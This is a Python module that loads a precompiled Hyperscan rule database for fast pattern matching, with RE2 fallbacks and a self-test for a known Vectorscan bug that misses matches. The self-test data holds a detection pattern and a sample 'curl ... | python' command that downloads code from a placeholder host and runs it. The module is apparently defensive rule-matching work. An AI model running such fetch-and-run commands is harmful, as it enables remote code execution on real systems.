"""Rules in a Hyperscan database: built once when a snapshot is published, then loaded, and matched in microseconds.

Hyperscan compiles all rules into tables ahead of time, which takes seconds, where RE2 builds its automaton
lazily while it matches, which makes messages slow that it has not seen the like of. The database finds candidates:
what could not be said exactly, RE2 confirms. Rules that Hyperscan refuses are left to an RE2 set.
"""

import importlib
import platform
import re
from collections.abc import Sequence
from importlib.metadata import PackageNotFoundError, version
from types import ModuleType

from signalbox.common.rules.errors import DatabaseUnusable, RulesOutOfMemory
from signalbox.common.rules.keywords import least_trust
from signalbox.common.rules.normalise import NEVER_NORMAL
from signalbox.common.rules.pattern import PatternMatch
from signalbox.common.rules.ports import Trust
from signalbox.common.rules.re2_engine import Re2Engine, Re2Rules
from signalbox.common.rules.simplified import simplify
from signalbox.common.rules.stored import StoredRules
from signalbox.common.rules.table import RuleTable

LEFT_OUT = -1
"""In place of a trust: the database does not hold the rule."""
_MISSED: tuple[tuple[list[bytes], bytes], ...] = (
    ([rb"curl.*\|\s*python"], b"curl http://xxxx:8000/ 2>&1 | python"),
    ([rb"[ab][ab][^ ]*(?:\xce\xa3|\xcf[\x82-\x83])", rb"1 .{40}"], b"x" * 20 + b"bb\xcf\x82"),
)
_NOT_NORMAL = re.compile(f"[{''.join(NEVER_NORMAL)}]")


class HyperscanRules:
    """A loaded database; see CompiledRules. Each thread that matches takes a scratch space of its own from a stack."""

    def __init__(self, stored: StoredRules, hyperscan: ModuleType, engine: Re2Engine) -> None:
        self._stored = stored
        self._table = RuleTable(stored.columns)
        self._trusts = stored.trusts
        self._engine = engine
        self._failure: type[Exception] = hyperscan.error
        self._new_scratch = hyperscan.Scratch
        try:
            self._database = hyperscan.loadb(stored.database(), hyperscan.HS_MODE_BLOCK)
            self._scratches = [self._new_scratch(self._database)]
        except hyperscan.error as error:
            raise DatabaseUnusable(f"Hyperscan does not load it: {error}") from error
        self._rest = self._left_out()
        self._whole: Re2Rules | None = None

    def __len__(self) -> int:
        return len(self._table)

    def match(self, text: str) -> list[int]:
        """See CompiledRules."""
        needed = least_trust(text)
        if needed != Trust.ASCII and _NOT_NORMAL.search(text):
            return self._by_re2(text)
        trusts, ids = self._trusts, self._table.ids
        found = [
            ids[position]
            for position in self._candidates(simplify(text).encode())
            if trusts[position] >= needed or self._table.confirms(position, text)
        ]
        if self._rest is not None:
            found += self._rest.match(text)
        found.sort()
        return found

    def find(self, rule_id: int, text: str) -> PatternMatch | None:
        """See CompiledRules."""
        return self._table.find(rule_id, text)

    def longest(self, rule_ids: Sequence[int], text: str, outcomes: Sequence[int]) -> int:
        """See CompiledRules."""
        return self._table.longest(rule_ids, text, outcomes)

    def serialise(self) -> bytes:
        """See CompiledRules."""
        return self._stored.to_bytes()

    def _candidates(self, data: bytes) -> list[int]:
        """Positions of the rules whose expressions are found."""
        try:
            scratch = self._scratches.pop()
        except IndexError:
            scratch = self._new_scratch(self._database)
        found: list[int] = []
        try:
            self._database.scan(data, _collect, context=found, scratch=scratch)
        except self._failure as error:
            raise RulesOutOfMemory(
                f"The rules could not be matched ({type(error).__name__}): whether one applies is not known."
            ) from error
        # One that failed may be in use or broken: it is not given back.
        self._scratches.append(scratch)
        return found

    def _by_re2(self, text: str) -> list[int]:
        """For a text that was not normalised: Hyperscan's ``k`` and ``s`` lack the folds that RE2's have."""
        if self._whole is None:
            self._whole = self._engine.compile(self._table.rules())
        return self._whole.match(text)

    def _left_out(self) -> Re2Rules | None:
        """The rules that the database does not hold."""
        if LEFT_OUT not in self._trusts:
            return None
        pairs = zip(self._table.rules(), self._trusts, strict=True)
        return self._engine.compile([rule for rule, trust in pairs if trust == LEFT_OUT])


def load_database(data: bytes, engine: Re2Engine) -> HyperscanRules:
    """The rules that ``serialise`` gave; ``engine`` has those that the database does not hold.

    Raises:
        ValueError: this is something else, or damaged.
        DatabaseUnusable: there is no database in the data, or none that this platform and release can use.
    """
    stored = StoredRules.from_bytes(data)
    if not stored.size:
        raise DatabaseUnusable("No database was built.")
    hyperscan = hyperscan_package()
    here = (hyperscan_builder(), this_platform())
    if (stored.builder, stored.platform) != here:
        raise DatabaseUnusable(
            f"It was built by {stored.builder} on {stored.platform}, and this is {' on '.join(here)}."
        )
    return HyperscanRules(stored, hyperscan, engine)


def hyperscan_builder() -> str:
    """Name and version of the installed Hyperscan. Raises DatabaseUnusable without one."""
    try:
        return f"hyperscan/{version('hyperscan')}"
    except PackageNotFoundError:
        raise DatabaseUnusable("Hyperscan is not installed.") from None


def this_platform() -> str:
    """What a database is tied to besides its version."""
    return f"{platform.system()}-{platform.machine()}".lower()


def hyperscan_package() -> ModuleType:
    """The package, imported when it is needed: there are platforms without it, and releases that miss matches.

    Raises:
        DatabaseUnusable: it cannot be imported, or does not find what it should.
    """
    try:
        hyperscan = importlib.import_module("hyperscan")
    except ImportError as error:
        raise DatabaseUnusable(f"Hyperscan cannot be used: {error}") from error
    if not _sound(hyperscan):
        raise DatabaseUnusable(f"{hyperscan_builder()} misses matches on this processor.")
    return hyperscan


def _sound(hyperscan: ModuleType) -> bool:
    """Whether it finds what Vectorscan 5.4.12, which some releases of the package hold, misses on x86-64.

    See https://github.com/VectorCamp/vectorscan/issues/382. Takes a millisecond.
    """
    flags = hyperscan.HS_FLAG_DOTALL
    for expressions, text in _MISSED:
        found: list[int] = []
        database = hyperscan.Database(mode=hyperscan.HS_MODE_BLOCK)
        database.compile(expressions=expressions, ids=list(range(len(expressions))), flags=flags)
        database.scan(text, _collect, context=found)
        if 0 not in found:
            return False
    return True


def _collect(position: int, _start: int, _end: int, _flags: int, found: list[int]) -> None:
    found.append(position)
